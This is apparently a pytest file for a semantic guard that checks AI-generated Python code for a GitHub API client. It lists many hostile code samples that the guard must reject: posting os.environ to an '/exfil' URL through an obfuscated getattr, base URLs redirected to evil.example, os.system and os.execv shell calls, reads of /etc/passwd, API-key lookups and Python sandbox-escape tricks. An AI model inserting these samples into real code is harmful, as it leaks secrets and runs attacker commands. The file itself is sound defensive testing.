"""The semantic guard on Python answers: each known attack is rejected for its own reason, and
enrichments (docstrings, comments, messages, renamed locals, more tests) still pass."""

from __future__ import annotations

import ast
import subprocess
import sys

import pytest

from agentflow.generation.backends.folding import fold
from agentflow.generation.backends.module_facts import module_allowed

from .guarded import (
    ADAPTER,
    EXAMPLES,
    MODULE_LEVEL,
    SENDING_CALL,
    TESTS,
    check,
    edit,
    insert,
    rendered,
)

REQUEST_ARGS = '"headers": headers,\n'
EXFIL = 'getattr(httpx, "po" + "st")("http:" + "//127.0.0.1:8999/exfil", json=dict(os.environ))'

ADAPTER_ATTACKS = {
    "os.system through the existing import": (
        insert(ADAPTER, MODULE_LEVEL, 'os.system("id")'),
        "os.system is not allowed in module level",
    ),
    "__import__ reached through __builtins__": (
        insert(ADAPTER, MODULE_LEVEL, '__builtins__["__imp" + "ort__"]("subprocess")'),
        "__builtins__ is not allowed in module level (an interpreter internal)",
    ),
    "import machinery through os.sys.modules": (
        insert(ADAPTER, MODULE_LEVEL, 'os.sys.modules["importlib"].import_module("subprocess")'),
        "os.sys.modules is not allowed in module level",
    ),
    "a subprocess through asyncio": (
        insert(ADAPTER, MODULE_LEVEL, 'asyncio.run(asyncio.create_subprocess_exec("id"))'),
        "asyncio.create_subprocess_exec is not allowed in module level",
    ),
    "reading a file": (
        insert(ADAPTER, MODULE_LEVEL, '_PASSWD = open("/etc/passwd").read()'),
        "open is not allowed in module level (a builtin",
    ),
    "exfiltration with a folded getattr at module level": (
        insert(ADAPTER, MODULE_LEVEL, EXFIL),
        "httpx.post is not allowed in module level",
    ),
    "exfiltration URL built in pieces": (
        insert(ADAPTER, MODULE_LEVEL, EXFIL),
        "new URL 'http://127.0.0.1:8999/exfil'",
    ),
    "the environment copied at module level": (
        insert(ADAPTER, MODULE_LEVEL, EXFIL),
        "os.environ is not allowed in module level",
    ),
    "a second send inside _request": (
        insert(ADAPTER, SENDING_CALL, 'self._http.post("/collect", json={"token": "t"})'),
        "self._http.post is not allowed in GitHubClient._request (reaches the HTTP client",
    ),
    "the client aliased inside _request": (
        insert(ADAPTER, SENDING_CALL, "sender = self._http\nsender.get(url)"),
        "self._http is not allowed in GitHubClient._request (reaches the HTTP client",
    ),
    "a new httpx client": (
        insert(ADAPTER, MODULE_LEVEL, "_SPARE = httpx.Client()"),
        "httpx.Client is not allowed in module level",
    ),
    "base URL built in pieces in the config": (
        edit(ADAPTER, '"https://api.github.com"', '"https:" + "//evil.example"'),
        "new URL 'https://evil.example'",
    ),
    "base URL swapped only for the default config": (
        insert(
            ADAPTER,
            REQUEST_ARGS,
            '**({"url": "https:" + "//evil.example"} if self._config == GitHubConfig() '
            "else {}),",
        ),
        "new URL 'https://evil.example'",
    ),
    "a host spelled backwards": (
        insert(ADAPTER, MODULE_LEVEL, '_HOST = "".join(reversed("elpmaxe.live"))'),
        "new URL 'evil.example'",
    ),
    "a function aliased": (
        insert(ADAPTER, MODULE_LEVEL, "_run = os.system"),
        "os.system is not allowed in module level",
    ),
    "a module aliased": (
        insert(ADAPTER, MODULE_LEVEL, "_system = vars(os)"),
        "vars is not allowed in module level",
    ),
    "a dangerous default argument": (
        insert(ADAPTER, MODULE_LEVEL, 'def _helper(_x=os.popen("id")) -> None:\n    pass'),
        "os.popen is not allowed in module level",
    ),
    "a lambda wrapper": (
        insert(ADAPTER, MODULE_LEVEL, '_later = lambda: os.execv("/bin/sh", ["sh"])'),
        "os.execv is not allowed in module level",
    ),
    "a decorator": (
        insert(
            ADAPTER,
            MODULE_LEVEL,
            '@(lambda f: os.remove("x") or f)\ndef _noop() -> None:\n    pass',
        ),
        "os.remove is not allowed in module level",
    ),
    "a walrus": (
        insert(ADAPTER, MODULE_LEVEL, "_found = (_spawn := os.spawnv)"),
        "os.spawnv is not allowed in module level",
    ),
    "a builtin shadowed only inside a comprehension": (
        insert(ADAPTER, MODULE_LEVEL, '_names = [open for open in ()]\n_data = open("x")'),
        "open is not allowed in module level",
    ),
    "a class body": (
        insert(ADAPTER, MODULE_LEVEL, "class _Hidden:\n    token = os.getenv('OPENAI_API_KEY')"),
        "os.getenv is not allowed in _Hidden",
    ),
    "an implicit hook": (
        insert(
            ADAPTER,
            MODULE_LEVEL,
            "class _Hook:\n    def __init_subclass__(cls) -> None:\n        pass",
        ),
        "def __init_subclass__ is not allowed in _Hook (a special method that runs implicitly)",
    ),
    "a finalizer": (
        insert(ADAPTER, MODULE_LEVEL, "class _Gone:\n    def __del__(self) -> None:\n        pass"),
        "def __del__ is not allowed in _Gone",
    ),
    "a subclass walk": (
        insert(ADAPTER, MODULE_LEVEL, "_all = ().__class__.__mro__[1].__subclasses__()"),
        "(…).__class__ is not allowed in module level (an attribute that escapes",
    ),
    "frames through a traceback": (
        insert(
            ADAPTER,
            MODULE_LEVEL,
            "def _peek(error: Exception) -> object:\n    return error.__traceback__.tb_frame",
        ),
        "error.__traceback__ is not allowed in _peek",
    ),
    "globals()": (
        insert(ADAPTER, MODULE_LEVEL, "_g = globals()"),
        "globals is not allowed in module level",
    ),
    "dynamic getattr": (
        insert(ADAPTER, MODULE_LEVEL, "_name = ENV_PREFIX.lower()\n_f = getattr(os, _name)"),
        "getattr is not allowed in module level",
    ),
    "a format string reaching attributes": (
        insert(ADAPTER, MODULE_LEVEL, '_leak = "{0.__init__.__globals__}".format(_LOG)'),
        "'__globals__' in a string is not allowed in module level",
    ),
    "a global rebinding an import": (
        insert(ADAPTER, MODULE_LEVEL, "def _swap() -> None:\n    global httpx\n    httpx = None"),
        "global httpx is not allowed in _swap",
    ),
    "another provider's key name": (
        insert(ADAPTER, SENDING_CALL, 'self._secrets.get("OPENAI_API_KEY")'),
        "string 'OPENAI_API_KEY' is not allowed in GitHubClient._request",
    ),
    "a new import inside a function": (
        insert(ADAPTER, SENDING_CALL, "import os as system_module"),
        "new import 'os as system_module' in GitHubClient._request",
    ),
    "from os import system": (
        insert(ADAPTER, MODULE_LEVEL, "from os import system"),
        "new import 'os:system' in module level",
    ),
    "attrgetter": (
        insert(ADAPTER, MODULE_LEVEL, "import operator\n_get = operator.attrgetter('system')(os)"),
        "new import 'operator' in module level",
    ),
    "a builtin called in a match case": (
        insert(ADAPTER, MODULE_LEVEL, "match 1:\n    case int():\n        _r = eval('1')"),
        "eval is not allowed in module level",
    ),
    "a match statement binding a builtin name elsewhere": (
        insert(
            ADAPTER, MODULE_LEVEL, "match 1:\n    case str() as eval:\n        pass\n_r = eval('1')"
        ),
        "eval is not allowed in module level",
    ),
}


@pytest.mark.parametrize("attack", sorted(ADAPTER_ATTACKS))
def test_adapter_attack_is_rejected(attack: str) -> None:
    text, reason = ADAPTER_ATTACKS[attack]
    problems = check(ADAPTER, text)
    assert any(reason in p for p in problems), problems
    assert all(p.startswith(ADAPTER) or "from the requirements" in p for p in problems)


OTHER_ATTACKS = {
    "os.system at module level of the tests": (
        TESTS,
        insert(TESTS, 'BASE_PATH = ""', 'import os\nos.system("touch /tmp/owned")'),
        "new import 'os' in module level",
    ),
    "os reached through an existing import in the tests": (
        TESTS,
        insert(TESTS, 'BASE_PATH = ""', 'logging.os.system("touch /tmp/owned")'),
        "logging.os.system is not allowed in module level",
    ),
    "base URL built in pieces in the tests": (
        TESTS,
        edit(
            TESTS, 'BASE_URL = "https://api.github.com"', 'BASE_URL = "https:" + "//evil.example"'
        ),
        "new URL 'https://evil.example'",
    ),
    "a temporary folder fixture in a new test": (
        TESTS,
        rendered()[TESTS]
        + "\n\ndef test_reads(tmp_path: Any) -> None:\n    assert tmp_path.joinpath('x')\n",
        "fixture tmp_path is not allowed in test_reads",
    ),
    "the client's private HTTP client in a new test": (
        TESTS,
        rendered()[TESTS]
        + "\n\ndef test_sends() -> None:\n    with client(Service()) as api:\n"
        + "        api._http.post('/x')\n",
        "api._http.post is not allowed in test_sends",
    ),
    "a name the adapter imports, reached through it": (
        TESTS,
        rendered()[TESTS] + "\n\ndef test_shell() -> None:\n    github_adapter.os.system('id')\n",
        "github_adapter.os is not allowed in test_shell",
    ),
    "a builtin rebound at module level only where it never runs": (
        TESTS,
        insert(TESTS, 'BASE_PATH = ""', 'if False:\n    open = print\n_d = open("/etc/passwd")'),
        "open is not allowed in module level",
    ),
    "a builtin rebound in a class body only where it never runs": (
        TESTS,
        insert(
            TESTS,
            'BASE_PATH = ""',
            'class _Setup:\n    if False:\n        exec = print\n    exec("1")',
        ),
        "exec is not allowed in _Setup",
    ),
    "__builtins__ rebound only where it never runs": (
        TESTS,
        insert(
            TESTS,
            'BASE_PATH = ""',
            'if False:\n    __builtins__ = {}\n_e = __builtins__["ev" + "al"]("1")',
        ),
        "__builtins__ is not allowed in module level (an interpreter internal)",
    ),
    "a subprocess in the examples": (
        EXAMPLES,
        insert(
            EXAMPLES,
            '"""Run every example in turn."""',
            'asyncio.run(asyncio.create_subprocess_shell("id"))',
        ),
        "asyncio.create_subprocess_shell is not allowed in main",
    ),
}


@pytest.mark.parametrize("attack", sorted(OTHER_ATTACKS))
def test_attack_on_tests_and_examples_is_rejected(attack: str) -> None:
    path, text, reason = OTHER_ATTACKS[attack]
    problems = check(path, text)
    assert any(reason in p for p in problems), problems


ENRICHMENTS = {
    "a module docstring line and comments": (
        ADAPTER,
        edit(ADAPTER, '"""Client for the GitHub API.', '"""Client for the GitHub REST API.\n\n#'),
    ),
    "a comment in _request": (ADAPTER, insert(ADAPTER, SENDING_CALL, "# one attempt")),
    "a clearer error message": (
        ADAPTER,
        edit(
            ADAPTER,
            "the response body is not valid JSON",
            "the response body is not valid JSON; is the base URL right?",
        ),
    ),
    "a renamed local": (
        ADAPTER,
        rendered()[ADAPTER]
        .replace("        attempts = self._attempts(", "        tries = self._attempts(")
        .replace("attempt, attempts, error", "attempt, tries, error"),
    ),
    "a debug log line": (
        ADAPTER,
        insert(ADAPTER, SENDING_CALL, '_LOG.debug("sent %s %s", method, _path_of(url))'),
    ),
    "a string split in pieces": (
        ADAPTER,
        edit(ADAPTER, '"Accept": "application/json"', '"Accept": "application/" + "json"'),
    ),
    "getattr with a constant name on an existing form": (
        ADAPTER,
        edit(ADAPTER, "started = time.perf_counter()", 'started = getattr(time, "perf_counter")()'),
    ),
    "a new test using helpers, pytest.raises, approx and json": (
        TESTS,
        rendered()[TESTS] + '''

def test_get_user_error_carries_the_body() -> """None""":
    """A 404 keeps the service's message."""
    service = Service(respond(404, {"message": "missing"}))
    with client(service, max_attempts=1) as api, pytest.raises(GitHubNotFoundError) as caught:
        api.get_user("octocat")
    assert json.loads(caught.value.body) == {"message": "missing"}
    assert caught.value.status_code == pytest.approx(404)
''',
    ),
    "an extra assertion in a template test": (
        TESTS,
        insert(
            TESTS,
            'assert_sent(request, "GET", "/users/v0 /0", {}, None)',
            "assert request.url.host == 'api.github.com'",
        ),
    ),
    "a parametrized new test": (
        TESTS,
        rendered()[TESTS] + """

@pytest.mark.parametrize("status", [500, 502])
def test_server_errors_are_named(status: int) -> None:
    service = Service(respond(status))
    with client(service, max_attempts=1) as api, pytest.raises(GitHubServerError):
        api.get_user("octocat")
""",
    ),
    "another example": (
        EXAMPLES,
        insert(
            EXAMPLES,
            '"""Run every example in turn."""',
            'print("the examples call the real service")',
        ),
    ),
}


@pytest.mark.parametrize("enrichment", sorted(ENRICHMENTS))
def test_enrichment_is_accepted(enrichment: str) -> None:
    path, text = ENRICHMENTS[enrichment]
    assert text != rendered()[path]
    assert check(path, text) == []


def test_each_rendered_file_is_accepted_as_it_is() -> None:
    for path, text in rendered().items():
        if path.endswith((".py", ".md")):
            assert check(path, text) == [], path


@pytest.mark.parametrize(
    ("source", "folded"),
    [
        ('"https:" + "//x.io"', "https://x.io"),
        ('"%s//%s" % ("https:", "x.io")', "https://x.io"),
        ('"{}//{}".format("https:", "x.io")', "https://x.io"),
        ('"".join(["ht", "tp"])', "http"),
        ("bytes([104, 105]).decode()", "hi"),
        ("chr(104) + chr(100 + 5)", "hi"),
        ("f\"{'a'}{'b'!r}\"", "a'b'"),
        ('"oi"[::-1]', "io"),
        ('"".join(map(chr, [104, 105]))', "hi"),
    ],
)
def test_constant_expressions_fold(source: str, folded: str) -> None:
    tree = fold(ast.parse(source, mode="eval"))
    assert isinstance(tree, ast.Expression) and isinstance(tree.body, ast.Constant)
    assert tree.body.value == folded


def test_folding_is_bounded() -> None:
    for source in ('"x" * 10**9', '"%999999999s" % "x"', 'f"{1:>999999999}"', '"ab" * 100000'):
        tree = fold(ast.parse(source, mode="eval"))
        assert isinstance(tree, ast.Expression)
        assert not isinstance(tree.body, ast.Constant), source


def test_getattr_with_a_constant_name_reads_as_an_attribute() -> None:
    tree = fold(ast.parse('getattr(httpx, "po" + "st")', mode="eval"))
    assert isinstance(tree, ast.Expression)
    assert ast.unparse(tree) == "httpx.post"


@pytest.mark.parametrize(
    ("dotted", "allowed"),
    [
        ("json.loads", True),
        ("typing.Any", True),
        ("typing.sys", False),  # a wildcard never allows a module
        ("collections.abc.sys", False),
        ("httpx.ConnectError", True),
        ("httpx.post", False),
        ("pytest.skip", False),
        ("os.environ", False),
    ],
)
def test_allow_list_matches_segment_by_segment(dotted: str, allowed: bool) -> None:
    assert module_allowed(dotted) is allowed


def test_allow_list_verdicts_do_not_depend_on_what_is_imported() -> None:
    """A wildcard's module is looked at even when nothing has imported it yet."""
    script = (
        "import sys\n"
        "from agentflow.generation.backends.module_facts import module_allowed\n"
        "assert 'httpx' not in sys.modules\n"
        "print(module_allowed('httpx.ConnectError'), module_allowed('httpx.codes.OK'))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["True", "True"]
